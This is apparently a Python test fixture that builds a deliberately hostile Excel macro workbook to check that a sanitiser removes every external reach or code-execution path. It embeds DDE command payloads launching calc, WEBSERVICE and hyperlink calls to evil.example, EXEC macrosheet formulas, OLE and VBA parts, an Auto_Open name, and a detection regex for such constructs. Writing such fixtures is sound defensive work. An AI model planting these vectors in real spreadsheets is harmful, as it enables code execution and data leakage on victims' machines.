"""A workbook that holds everything by which one may reach out of itself, or have something run."""

import re

from openpyxl import Workbook as Book
from openpyxl.chart import BarChart, Reference, Series
from openpyxl.chart.series import SeriesLabel
from openpyxl.comments import Comment
from openpyxl.formatting.rule import ColorScaleRule, DataBarRule, FormulaRule, IconSetRule
from openpyxl.packaging.custom import StringProperty
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.hyperlink import Hyperlink
from openpyxl.worksheet.scenario import InputCells, Scenario, ScenarioList
from openpyxl.worksheet.table import Table, TableColumn, TableFormula

from tests.sheets.build import part, saved, with_part
from tests.sheets.hostile import compound_of

OUT = 'WEBSERVICE("http://evil.example/"&A1)'
LINKED = "[1]S!$A$1"
DDE = "cmd|' /C calc'!A0"
SHEET = "xl/worksheets/sheet1.xml"
LINKS = "xl/worksheets/_rels/sheet1.xml.rels"
# What no part of a returned workbook may hold; the names of its own XML's spaces aside.
REACHES_OUT = re.compile(
    rb"WEBSERVICE|HYPERLINK\(|INDIRECT|\bDDE|\bdde|cmd|calc'|!A0|\[1\]|externalLink|evil|file:"
    rb'|connection|TargetMode="External"|https?://(?!schemas\.|purl\.org/|www\.w3\.org/)'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
_XM = "http://schemas.microsoft.com/office/excel/2006/main"
_EXTENDED = f"""<extLst><ext uri="{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}" xmlns:x14="{_X14}">
<x14:sparklineGroups xmlns:xm="{_XM}"><x14:sparklineGroup><xm:f>{LINKED}</xm:f><x14:sparklines>
<x14:sparkline><xm:f>{LINKED}</xm:f><xm:sqref>H1</xm:sqref></x14:sparkline></x14:sparklines>
</x14:sparklineGroup></x14:sparklineGroups></ext>
<ext uri="{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}" xmlns:x14="{_X14}"><x14:conditionalFormattings>
<x14:conditionalFormatting xmlns:xm="{_XM}"><x14:cfRule type="expression" id="{{1}}"><xm:f>WEBSERVICE(A1)</xm:f>
</x14:cfRule><xm:sqref>A1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext>
<ext uri="{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}" xmlns:x14="{_X14}"><x14:dataValidations xmlns:xm="{_XM}">
<x14:dataValidation type="list"><x14:formula1><xm:f>{LINKED}</xm:f></x14:formula1><xm:sqref>G1</xm:sqref>
</x14:dataValidation></x14:dataValidations></ext>
<ext uri="{{A8765BA9-456A-4dab-B4F3-ACF838C121DE}}" xmlns:x14="{_X14}"><x14:slicerList>
<x14:slicer xmlns:r="{_OFFICE}" r:id="rId91"/></x14:slicerList></ext></extLst>"""
_BELOW = f"""<pageSetup xmlns:r="{_OFFICE}" r:id="rId95"/><headerFooter><oddHeader>&amp;L&amp;G</oddHeader></headerFooter>
<legacyDrawingHF xmlns:r="{_OFFICE}" r:id="rId92"/><picture xmlns:r="{_OFFICE}" r:id="rId93"/>
<oleObjects><oleObject xmlns:r="{_OFFICE}" link="{DDE}" oleUpdate="OLEUPDATE_ALWAYS" shapeId="1"/>
<oleObject xmlns:r="{_OFFICE}" progId="Package" shapeId="2" r:id="rId94"/></oleObjects>
<webPublishItems count="1"><webPublishItem id="1" divId="a" sourceType="sheet" destinationFile="file://evil/a"/></webPublishItems>"""
_RELATIONS = "".join(
    f'<Relationship Id="rId{number}" Type="{_OFFICE}/{kind}" Target="http://evil.example/{number}" TargetMode="External"/>'
    for number, kind in enumerate(
        ("slicer", "vmlDrawing", "image", "oleObject", "printerSettings", "queryTable"), 91
    )
)
_OTHER_PARTS = (
    ("xl/vbaProject.bin", compound_of("VBA")),
    ("xl/embeddings/oleObject1.bin", compound_of("Package")),
    ("xl/connections.xml", "<connections><connection name='http://evil.example/'/></connections>"),
    ("xl/externalLinks/externalLink1.xml", f"<externalLink><ddeLink>{DDE}</ddeLink></externalLink>"),
    ("xl/queryTables/queryTable1.xml", "<queryTable name='evil' connectionId='1'/>"),
    ("xl/slicers/slicer1.xml", "<slicers><slicer name='evil'/></slicers>"),
    ("xl/pivotCache/pivotCacheDefinition1.xml", "<pivotCacheDefinition a='http://evil.example/'/>"),
    ("xl/macrosheets/sheet1.xml", f"<f>EXEC({DDE})</f>"),
    ("customUI/customUI.xml", "<customUI onLoad='evil'/>"),
)  # fmt: skip


def reaching_out(rows):
    """An .xlsm of these rows in A1:B3 of its sheet "Sheet", with much else around them."""
    book = Book()
    sheet = book.active
    sheet.title = "Sheet"
    for row in rows:
        sheet.append(row)
    for column, name in enumerate(("Tổng", "Thêm"), 4):
        sheet.cell(1, column).value = name
        sheet.cell(2, column).value = column
    sheet["D3"], sheet["D4"] = f"={DDE}", f'=HYPERLINK("http://evil.example/","{OUT[:3]}")'
    sheet["D5"] = ArrayFormula("D5:D6", f"={OUT}")
    sheet["A1"].comment = Comment("Để yên", "Trưởng thôn")
    _add_names(book)
    _add_rules(sheet)
    _add_links(sheet)
    _add_parts(book)
    return _with_raw_parts(saved(book))


def _add_names(book):
    names = {"Xa": LINKED, "Web": OUT, "Lenh": DDE, "Auto_Open": "Sheet!$A$1", "Gan": "Sheet!$A$1"}
    for name, content in names.items():
        book.defined_names[name] = DefinedName(name, attr_text=content)
        book["Sheet"].defined_names[name] = DefinedName(name, attr_text=content)
    book.defined_names["Gan"].comment = "http://evil.example/"
    book.defined_names["Macro"] = DefinedName("Macro", attr_text="Sheet!$A$1", xlm=True)


def _add_rules(sheet):
    for formula in ('"1,2"', "INDIRECT(A1)", LINKED):
        rule = DataValidation(type="list", formula1=formula)
        rule.add("C1")
        sheet.add_data_validation(rule)
    between = DataValidation(type="whole", formula1="1", formula2=OUT)
    between.add("C2")
    sheet.add_data_validation(between)
    end = {"end_type": "formula", "end_value": OUT}
    rules = {
        "A1:A9": FormulaRule(formula=["A1>0"]),
        "B1:B9": FormulaRule(formula=[f"{OUT}>0"]),
        "C1:C9": ColorScaleRule("formula", "$A$1", "FFFF0000", **end, end_color="FF00FF00"),
        "D1:D9": DataBarRule("num", 0, **end, color="FF638EC6"),
        "E1:E9": IconSetRule("3Arrows", "formula", ["A1", OUT, LINKED]),
        "F1:F9": ColorScaleRule("min", None, "FFFF0000", None, None, None, "max", None, "FF00FF00"),
        "G1:G9": IconSetRule("3Arrows", "percent", [0, 33, 67]),
    }
    for area, rule in rules.items():
        sheet.conditional_formatting.add(area, rule)


def _add_links(sheet):
    links = {
        "A1": Hyperlink(ref="A1", target="http://evil.example/"),
        "A2": Hyperlink(ref="A2", location="'[1]S'!A1"),
        "A3": Hyperlink(ref="A3", location="Sheet!B3"),
        "H9": Hyperlink(ref="H9", target="file://evil/a.xlsx"),
        "H10": Hyperlink(ref="H10", target=f"={DDE}"),
    }
    for cell, link in links.items():
        sheet[cell].hyperlink = link
    for cell in ("H9", "H10"):
        sheet[cell].value, sheet[cell].font = None, Font(bold=True)


def _add_parts(book):
    sheet = book["Sheet"]
    table = Table(displayName="Bang", ref="D1:E2", connectionId=1, tableType="queryTable")
    table.tableColumns = [
        TableColumn(id=1, name="Tổng", calculatedColumnFormula=TableFormula(attr_text=OUT)),
        TableColumn(id=2, name="Thêm", totalsRowFormula=TableFormula(attr_text=DDE)),
    ]
    sheet.add_table(table)
    scenario = Scenario(
        (InputCells("A1", val=f"={OUT}"),), name="evil", comment="http://evil.example/"
    )
    sheet.scenarios = ScenarioList((scenario,))
    sheet.print_title_rows, sheet.print_area = "1:1", "A1:B3"
    for place in (sheet, book.create_chartsheet("Biểu đồ")):
        chart = BarChart()
        series = Series(Reference(sheet, range_string="Sheet!$B$1:$B$3"), title="a")
        series.val.numRef.f = LINKED
        series.tx = SeriesLabel(v=OUT)
        chart.series.append(series)
        place.add_chart(chart)
    book.custom_doc_props.append(StringProperty("nguon", "http://evil.example/"))


def _with_raw_parts(data):
    """What openpyxl itself cannot write."""
    sheet = part(data, SHEET).decode()
    above, _, below = sheet.partition("<drawing")
    sheet = f"{above}{_BELOW}<drawing{below}".replace("</worksheet>", f"{_EXTENDED}</worksheet>")
    data = with_part(data, SHEET, sheet)
    links = part(data, LINKS).decode().replace("</Relationships>", f"{_RELATIONS}</Relationships>")
    data = with_part(data, LINKS, links)
    theme = part(data, "xl/theme/theme1.xml").decode()
    blip = f'<a:blipFill><a:blip xmlns:r="{_OFFICE}" r:link="http://evil.example/"/></a:blipFill>'
    data = with_part(
        data, "xl/theme/theme1.xml", theme.replace("</a:bgFillStyleLst>", f"{blip}</a:bgFillStyleLst>")
    )  # fmt: skip
    for name, content in _OTHER_PARTS:
        data = with_part(data, name, content)
    return data
